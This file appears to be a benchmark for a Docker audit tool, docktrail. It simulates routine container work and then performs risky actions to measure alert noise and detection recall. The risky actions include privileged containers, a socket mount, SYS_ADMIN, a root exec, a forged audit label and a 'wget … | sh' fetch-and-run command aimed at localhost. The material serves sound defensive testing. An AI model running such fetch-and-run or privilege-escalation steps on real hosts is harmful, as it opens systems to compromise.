"""Benchmark: alert noise and recall on a realistic busy hour, compressed.

Usage: python bench/noise.py [--rounds N] [--exec-rules]

Needs root, dockerd, containerd, a static busybox and auditd. It starts a
private dockerd (tests/dockerd.py) and a private auditd (tests/test_audit_live.py,
under its machine-wide lock) with rules in the style of
deploy/audit/docktrail.rules: the docker CLI execve rule, and watches of
every permission on the daemon binary (/usr/sbin/dockerd), on a stand-in for
/etc/docker and on the private daemon's data root (the /var/lib/docker watch
that makes most of a real host's audit volume). `docktrail run` (a real
process) follows both while two logins work:

routine (`--rounds` times): rolling deploys of a trusted image, a CI build
with the classic builder (its intermediate containers) and a push, `ls -l` /
`ls -la` / `cat` of the Docker files, exec health probes and the Engine's own
health checks, a container in a restart loop, a stop and a clean-up; the
middle round runs while docktrail is stopped (an operator's restart), so its
start's reconciliation records what changed meanwhile (`--no-restart`: not);

risky, once each: a privileged run, a run with /run mounted (it holds the
Engine's socket), SYS_ADMIN added, a root shell exec, a write to daemon.json,
a run of an untrusted image, a container created through the raw API with a
forged `audit.who` label; with `--exec-rules` (deploy/audit/docktrail-exec.rules
loaded, so every exec's commands are followed and judged), also `wget … | sh`
run in a container.

It prints the alerts per severity, the false HIGH/CRITICAL ones (above
medium and not one of the risky steps), and the recall of the risky steps
(each must have an alert of its rule on its subject).
"""

from __future__ import annotations

import argparse
import contextlib
import json
import os
import signal
import subprocess
import sys
import tempfile
import time
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

REPO = Path(__file__).resolve().parents[1]
EXEC_RULES = REPO / "deploy" / "audit" / "docktrail-exec.rules"
sys.path.insert(0, str(REPO))

from figures import figure  # noqa: E402

from sinks.base import AlertFilter  # noqa: E402
from sinks.sqlite import SQLiteTrail  # noqa: E402
from tests.dockerd import BUSYBOX_REF, Dockerd, unavailable_reason  # noqa: E402
from tests.shared_data import machine_lock  # noqa: E402
from tests.test_audit_live import Person, PrivateAuditd, _auditd_unavailable, _people  # noqa: E402

SEVERITIES = ("critical", "high", "medium", "low", "info")
UNTRUSTED_REF = "docker.io/randomuser/cryptominer:latest"
UNTRUSTED_TAG = "randomuser/cryptominer:latest"  # as the Engine names it in the tag event
SAFE = ("--read-only", "--memory", "64m", "--pids-limit", "64", "--user", "1000")
DOCKERFILE = """FROM {base}
RUN echo build {round_no} > /built
RUN mkdir -p /app && echo ok > /app/ready
CMD ["sleep", "600"]
"""


@dataclass(frozen=True, slots=True)
class Risky:
    step: str
    rule: str
    subject: str  # container name, image reference or file path the alert must name


class Host:
    """The private dockerd and auditd, and the people who work on them."""

    def __init__(self, daemon: Dockerd, audit: PrivateAuditd, people: dict[str, Person]) -> None:
        self.daemon = daemon
        self.audit = audit
        self.alice, self.bob = people["dt-alice"], people["dt-bob"]
        self.etc_docker = audit.dir / "etc-docker-cis"

    def watch(self) -> None:
        self.etc_docker.mkdir()
        (self.etc_docker / "daemon.json").write_text("{}\n")
        for path in ("/usr/sbin/dockerd", str(self.etc_docker), str(self.daemon.data_root)):
            subprocess.run(["auditctl", "-w", path, "-k", "docker"], check=True)

    @contextlib.contextmanager
    def exec_rules(self) -> Iterator[None]:
        """deploy/audit/docktrail-exec.rules (for the binaries this host has), then removed:
        audit rules are the kernel's, they outlive the private auditd."""
        loaded: list[list[str]] = []
        try:
            for line in EXEC_RULES.read_text().splitlines():
                words = line.split()
                paths = [w.split("=", 1)[1] for w in words if w.startswith(("exe=", "path="))]
                if line.startswith("-a") and all(os.path.exists(p) for p in paths):
                    subprocess.run(["auditctl", *words], check=True, capture_output=True)
                    loaded.append(words)
            yield
        finally:
            for words in reversed(loaded):
                subprocess.run(["auditctl", "-d", *words[1:]], capture_output=True)

    def docker(self, person: Person | None, *argv: str, check: bool = True, **env: str) -> str:
        """The docker CLI as `person` (sudo pattern: root with their login uid) or as root."""
        environment = dict(self.daemon.env, **env)
        command = ["docker", *argv]
        if person is not None:
            script = f'echo {person.uid} > /proc/self/loginuid && exec "$@"'
            command = ["sh", "-c", script, "_", *command]
        result = subprocess.run(command, env=environment, capture_output=True, text=True)
        if check and result.returncode != 0:
            raise RuntimeError(f"{' '.join(argv)}: {result.stderr.strip()}")
        return result.stdout

    def shell(self, person: Person, script: str) -> None:
        login = f"echo {person.uid} > /proc/self/loginuid && {script}"
        subprocess.run(["sh", "-c", login], check=True, capture_output=True)


# ---------------------------------------------------------------------- the hour


def routine(host: Host, round_no: int, build_dir: Path) -> None:
    alice, bob = host.alice, host.bob
    # Rolling deploy of a trusted image, with a health check.
    name = f"web-{round_no}"
    host.docker(alice, "run", "-d", "--name", name, *SAFE, "--health-cmd", "true",
                "--health-interval", "1s", BUSYBOX_REF, "sleep", "600")  # fmt: skip
    if round_no > 0:
        host.docker(alice, "rm", "-f", f"web-{round_no - 1}")
    # CI: a classic build (intermediate containers from bare image ids), then a push.
    tag = f"registry.internal/web/app:{round_no}"
    dockerfile = DOCKERFILE.format(base=BUSYBOX_REF, round_no=round_no)  # a new commit each time
    (build_dir / "Dockerfile").write_text(dockerfile)
    host.docker(bob, "build", "-t", tag, str(build_dir), DOCKER_BUILDKIT="0")
    host.docker(bob, "push", tag, check=False)  # no registry here: the attempt is the routine
    # Looking at the Docker files.
    for _ in range(3):
        host.shell(
            alice,
            f"ls -l /usr/sbin/dockerd >/dev/null; ls -la {host.etc_docker} >/dev/null; "
            f"cat {host.etc_docker}/daemon.json >/dev/null",
        )
    # Probes: a monitoring exec (not as root, no shell).
    for _ in range(5):
        host.docker(alice, "exec", name, "cat", "/proc/uptime")
    # A job and its clean-up.
    host.docker(bob, "run", "--rm", *SAFE, BUSYBOX_REF, "true")
    time.sleep(1.5)  # health checks run meanwhile


def restart_loop(host: Host) -> None:
    host.docker(host.bob, "run", "-d", "--name", "flappy", "--restart", "always", *SAFE,
                BUSYBOX_REF, "sh", "-c", "sleep 1; exit 1")  # fmt: skip


def risky_exec(host: Host) -> list[Risky]:
    """What the exec-session rules are for (nothing listens on port 9: argv is what counts)."""
    host.docker(host.bob, "exec", "web-0", "sh", "-c", "wget -q -O- http://127.0.0.1:9/x | sh",
                check=False)  # fmt: skip
    return [Risky("code fetched and run in a container", "exec-code-fetch", "web-0")]


def risky(host: Host) -> list[Risky]:
    alice, bob = host.alice, host.bob
    steps = []
    host.docker(bob, "create", "--name", "r-priv", "--privileged", *SAFE, BUSYBOX_REF, "true")
    steps.append(Risky("privileged run", "privileged-container", "r-priv"))
    host.docker(bob, "create", "--name", "r-run", "-v", "/run:/x", *SAFE, BUSYBOX_REF, "true")
    steps.append(Risky("/run mounted (holds the socket)", "docker-socket-mount", "r-run"))
    host.docker(bob, "create", "--name", "r-cap", "--cap-add", "SYS_ADMIN", *SAFE, BUSYBOX_REF,
                "true")  # fmt: skip
    steps.append(Risky("SYS_ADMIN added", "dangerous-capability", "r-cap"))
    host.docker(bob, "exec", "-u", "0", "web-0", "sh", "-c", "id")
    steps.append(Risky("root exec", "exec-in-container", "web-0"))
    daemon_json = host.etc_docker / "daemon.json"
    host.shell(alice, f"echo '{{\"debug\": true}}' > {daemon_json}")
    steps.append(Risky("daemon.json written", "daemon-config-change", str(daemon_json)))
    host.docker(bob, "tag", BUSYBOX_REF, UNTRUSTED_REF)
    steps.append(Risky("untrusted image tagged", "untrusted-image", UNTRUSTED_TAG))
    host.docker(bob, "create", "--name", "r-miner", *SAFE, UNTRUSTED_REF, "true")
    steps.append(Risky("untrusted image run", "untrusted-image", "r-miner"))
    _raw_create(host.daemon, "r-forged", {"audit.who": "dt-alice"})
    steps.append(Risky("raw API create, forged audit.who", "unattributed-change", "r-forged"))
    return steps


def _raw_create(daemon: Dockerd, name: str, labels: dict[str, str]) -> None:
    import docker

    client = docker.APIClient(base_url=daemon.host, version="auto")
    try:
        client.create_container(BUSYBOX_REF, "true", name=name, labels=labels, user="1000")
    finally:
        client.close()


# ---------------------------------------------------------------------- the service


class Service:
    def __init__(self, tmp: Path, host: Host) -> None:
        self.trail = tmp / "trail.db"
        daemon = host.daemon
        roots = [daemon.data_root, daemon.exec_root, daemon.root / "containerd"]
        config = {
            "host": "noise-bench",
            "trail": {"path": str(self.trail), "flush_interval_secs": 0.05},
            "docker": {"host": daemon.host},
            "auditd": {
                "log_file": str(host.audit.log_file),
                "start_at": "start",
                "daemon_roots": [str(r) for r in roots],
            },
            "rules": {"untrusted-image": {"trusted": ["registry.internal/*"]}},
        }
        self.config = tmp / "docktrail.yaml"
        self.config.write_text(json.dumps(config))  # YAML is a superset of JSON
        self.tmp = tmp
        self.process: subprocess.Popen[bytes] | None = None

    def start(self) -> None:
        env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(self.tmp)}
        self.process = subprocess.Popen(
            [sys.executable, "-m", "listener", "-c", str(self.config), "run"],
            stdout=subprocess.DEVNULL,
            stderr=open(self.tmp / "service.log", "wb"),  # noqa: SIM115
            env=env,
            cwd=REPO,
        )
        time.sleep(3)

    def stop(self) -> None:
        assert self.process is not None
        self.process.send_signal(signal.SIGTERM)
        self.process.wait(60)

    def alerts(self) -> list[Any]:
        with SQLiteTrail(self.trail) as trail:
            return list(trail.query_alerts(AlertFilter()))


# ---------------------------------------------------------------------- figures


def subject(alert: Any) -> str:
    path = alert.details.get("path")
    return str(path) if path else (alert.container or alert.image or "?")


def report(alerts: list[Any], steps: list[Risky], seconds: float, verbose: bool) -> None:
    loud = [a for a in alerts if a.suppressed is None]
    counts = Counter(a.severity for a in loud)
    print(f"busy hour compressed into {seconds:.0f}s: {len(loud)} alerts")
    print("  per severity: " + ", ".join(f"{s} {counts.get(s, 0)}" for s in SEVERITIES))
    wanted = {(s.rule, s.subject) for s in steps}
    false_high = [
        a for a in loud
        if a.severity in ("high", "critical") and (a.rule, subject(a)) not in wanted
    ]  # fmt: skip
    print(f"  false HIGH/CRITICAL: {len(false_high)}")
    for rule, n in Counter((a.rule, a.severity) for a in false_high).most_common():
        print(f"    {n:4d} {rule[0]} ({rule[1]})")
    found = {(a.rule, subject(a)) for a in loud}
    hit = [s for s in steps if (s.rule, s.subject) in found]
    print(f"  recall of risky steps: {len(hit)}/{len(steps)}")
    figure("noise.false_high_critical", len(false_high), "alerts", target="<=0")
    figure("noise.recall", len(hit) / len(steps) * 100 if steps else 0.0, "%", target=">=100")
    for step in steps:
        mark = "ok" if step in hit else "MISSED"
        print(f"    {mark:6s} {step.step}: {step.rule} on {step.subject}")
    by_rule = Counter((a.rule, a.severity) for a in loud)
    print("  alerts by rule: " + ", ".join(f"{r}/{s} {n}" for (r, s), n in sorted(by_rule.items())))
    if verbose:
        for alert in loud:
            if alert.severity not in ("low", "info"):
                print(f"    {alert.severity:8s} {alert.rule:22s} {alert.summary}")


@contextlib.contextmanager
def private_host() -> Iterator[Host]:
    with machine_lock("live-audit"):  # other runs' private auditd and test users take turns
        for reason in (unavailable_reason(), _auditd_unavailable()):
            if reason is not None:
                sys.exit(f"cannot run: {reason}")
        audit = PrivateAuditd()
        audit.start()
        try:
            people = _people()
            found = next(people)
            try:
                with Dockerd() as daemon:
                    daemon.import_busybox()
                    host = Host(daemon, audit, found)
                    host.watch()
                    yield host
            finally:
                with contextlib.suppress(StopIteration):
                    next(people)
        finally:
            audit.stop()


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--rounds", type=int, default=6, help="routine rounds (default 6)")
    parser.add_argument("-v", "--verbose", action="store_true", help="list the alerts")
    parser.add_argument(
        "--exec-rules", action="store_true", help="also load docktrail-exec.rules (exec sessions)"
    )
    parser.add_argument(
        "--no-restart", action="store_true", help="keep docktrail running the whole hour"
    )
    args = parser.parse_args()
    with (
        private_host() as host,
        tempfile.TemporaryDirectory(prefix="noise-") as tmp,
        host.exec_rules() if args.exec_rules else contextlib.nullcontext(),
    ):
        build_dir = Path(tmp) / "build"
        build_dir.mkdir()
        service = Service(Path(tmp), host)
        service.start()
        started = time.monotonic()
        try:
            restart_loop(host)
            routine(host, 0, build_dir)
            steps = risky(host) + (risky_exec(host) if args.exec_rules else [])
            for round_no in range(1, args.rounds):
                if round_no == args.rounds // 2 and not args.no_restart:
                    # An operator's restart, after a quiet moment: an Engine event read only
                    # by the next start is judged without its audit records (README).
                    time.sleep(2)
                    service.stop()  # this round's work happens unseen
                    routine(host, round_no, build_dir)
                    service.start()  # its reconciliation records what changed meanwhile
                    continue
                routine(host, round_no, build_dir)
            time.sleep(3)  # the last events through attribution and rules
        finally:
            host.docker(None, "rm", "-f", "flappy", check=False)
            service.stop()
        report(service.alerts(), steps, time.monotonic() - started, args.verbose)


if __name__ == "__main__":
    main()
